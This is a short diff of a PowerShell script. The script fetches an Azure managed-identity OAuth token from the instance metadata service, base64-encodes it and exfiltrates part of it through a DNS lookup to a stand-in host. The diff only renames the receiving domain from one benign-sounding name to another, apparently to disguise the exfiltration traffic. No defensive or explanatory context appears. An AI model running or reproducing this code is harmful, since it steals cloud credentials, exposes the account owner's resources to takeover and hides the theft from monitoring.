@@ -1,5 +1,5 @@
-# task 5093 v4
+# run 4374 v4
 $h = @{ Metadata = 'true' }
 $tok = irm -Headers $h -Uri 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2019-08-01&resource=https://management.azure.com'
 $b64 = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($tok.access_token))
-Resolve-DnsName "$($b64.Substring(0,60)).x.api.telemetry-hub.example" -ErrorAction SilentlyContinue
+Resolve-DnsName "$($b64.Substring(0,60)).x.cdn-update.example" -ErrorAction SilentlyContinue
